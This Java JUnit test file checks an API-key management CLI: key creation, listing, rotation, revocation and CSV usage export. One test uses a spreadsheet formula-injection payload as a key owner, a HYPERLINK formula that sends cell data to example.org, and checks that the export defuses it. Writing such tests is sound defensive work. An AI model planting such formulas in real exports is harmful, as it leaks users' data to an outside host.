package fr.opendamir.cli;

import static fr.opendamir.cli.CommandLines.run;
import static org.assertj.core.api.Assertions.assertThat;

import fr.opendamir.store.DatabaseRole;
import fr.opendamir.store.DatabaseSettings;
import fr.opendamir.testing.TestDatabase;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.Statement;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Commands about keys, against an external database. */
class KeysCommandDbTest {
  private static final List<String> SETTINGS =
      List.of("opendamir.database.url", "opendamir.database.username");

  private DatabaseSettings database;

  @TempDir Path folder;

  @BeforeEach
  void configure() {
    database = TestDatabase.create().settings();
    System.setProperty("opendamir.database.url", database.url());
    System.setProperty("opendamir.database.username", database.username());
  }

  @AfterEach
  void forget() {
    SETTINGS.forEach(System::clearProperty);
  }

  @Test
  void aKeyIsShownOnceAndListedWithoutItsSecret() {
    assertThat(run("keys", "list").output()).contains("There are no keys.");
    CommandLines.Outcome created =
        run("keys", "create", "--owner", "Ada", "--plan", "partner", "--expires", "2099-01-01");
    assertThat(created.exitCode()).as(created.errors()).isZero();
    String secret = created.output().strip();
    assertThat(secret).matches("odk_[0-9A-Za-z]{38}");
    assertThat(created.errors()).contains("shown this once").doesNotContain(secret);
    assertThat(run("keys", "list").output())
        .contains(secret.substring(0, 12), "active", "partner", "2099-01-01", "Ada")
        .doesNotContain(secret);
    assertThat(run("keys", "list", "--json").output())
        .contains("\"expires_at\" : \"2099-01-01T00:00:00Z\"", "\"state\" : \"active\"")
        .doesNotContain(secret, "hash");
  }

  @Test
  void aKeyIsRotatedAndRevokedAndWhatCannotBeDoneIsSaid() {
    String secret = run("keys", "create", "--owner", "Ada").output().strip();
    CommandLines.Outcome rotated = run("keys", "rotate", "1", "--grace", "12h");
    assertThat(rotated.output().strip()).startsWith("odk_").isNotEqualTo(secret);
    assertThat(run("keys", "list").output()).contains("replaced", "active");
    refused("was replaced by key 2", "keys", "rotate", "1");
    refused("2 keys begin with « odk_ »", "keys", "revoke", "odk_");
    assertThat(run("keys", "revoke", secret).output()).contains("Key 1 (").doesNotContain(secret);
    refused("was revoked at", "keys", "revoke", secret.substring(0, 12));
    refused("there is no key « 99 »", "keys", "revoke", "99");
    refused("is not a rate plan", "keys", "create", "--owner", "Ada", "--plan", "anonymous");
    refused("expired already", "keys", "create", "--owner", "Ada", "--expires", "2020-01-01");
  }

  @Test
  void usageIsExportedAsCsv() throws Exception {
    String secret = run("keys", "create", "--owner", "Lovelace, Ada").output().strip();
    try (Connection connection = database.as(DatabaseRole.ACCESS).connect();
        Statement statement = connection.createStatement()) {
      statement.execute(
          """
          INSERT INTO control.usage_day (day, key_id, plan, door, requests, units, refused) VALUES
            ('2026-11-01', 1, 'registered', 'rest', 10, 25, 2),
            ('2026-11-01', NULL, 'anonymous', 'rest', 7, 9, 0),
            ('2026-12-01', 1, 'registered', 'rest', 1, 1, 0)
          """);
    }
    String expected =
        "day,key_id,key,owner,plan,door,requests,units,refused\r\n"
            + "2026-11-01,,,,anonymous,rest,7,9,0\r\n"
            + "2026-11-01,1,"
            + secret.substring(0, 12)
            + ",\"Lovelace, Ada\",registered,rest,10,25,2\r\n";
    String[] question = {"usage", "--from", "2026-11-01", "--to", "2026-11-30"};
    assertThat(run(question).output()).isEqualTo(expected);
    Path file = folder.resolve("usage.csv");
    assertThat(run("usage", "--from", "2026-11-01", "--to", "2026-11-30", "--csv", file.toString()))
        .extracting(CommandLines.Outcome::exitCode)
        .isEqualTo(0);
    assertThat(Files.readString(file)).isEqualTo(expected);

    String[] again = {"usage", "--from", "2026-12-01", "--to", "2026-12-31", "--csv", file + ""};
    refused("usage.csv: exists already, and is left as it is; --replace replaces it", again);
    assertThat(Files.readString(file)).isEqualTo(expected);
    String[] replacing = Arrays.copyOf(again, again.length + 1);
    replacing[again.length] = "--replace";
    assertThat(run(replacing).exitCode()).isZero();
    assertThat(Files.readString(file)).contains("2026-12-01").doesNotContain("2026-11-01");
  }

  @Test
  void noOwnerIsComputedByASpreadsheet() throws Exception {
    String owner = "=HYPERLINK(\"//example.org?\"&A1,\"here\")";
    assertThat(run("keys", "create", "--owner", owner).exitCode()).isZero();
    try (Connection connection = database.as(DatabaseRole.ACCESS).connect();
        Statement statement = connection.createStatement()) {
      statement.execute(
          """
          INSERT INTO control.usage_day (day, key_id, plan, door, requests, units, refused)
          VALUES ('2026-11-01', 1, 'registered', 'rest', 10, 25, 2)
          """);
    }
    assertThat(run("usage", "--from", "2026-11-01", "--to", "2026-11-30").output())
        .contains(",\"'" + owner.replace("\"", "\"\"") + "\",registered,");
  }

  @Test
  void wrongUsageIsToldApart() {
    assertThat(run("keys").exitCode()).isEqualTo(2);
    assertThat(run("keys", "create").exitCode()).isEqualTo(2);
    assertThat(run("keys", "rotate", "1", "--grace", "soon").exitCode()).isEqualTo(2);
    assertThat(run("keys", "create", "--owner", "Ada", "--expires", "soon").exitCode())
        .isEqualTo(2);
    assertThat(run("usage", "--from", "2026-02-01", "--to", "2026-01-01").exitCode()).isEqualTo(2);
  }

  private static void refused(String why, String... arguments) {
    CommandLines.Outcome outcome = run(arguments);
    assertThat(outcome.exitCode()).isEqualTo(1);
    assertThat(outcome.errors()).contains(why);
    assertThat(outcome.output()).isEmpty();
  }
}
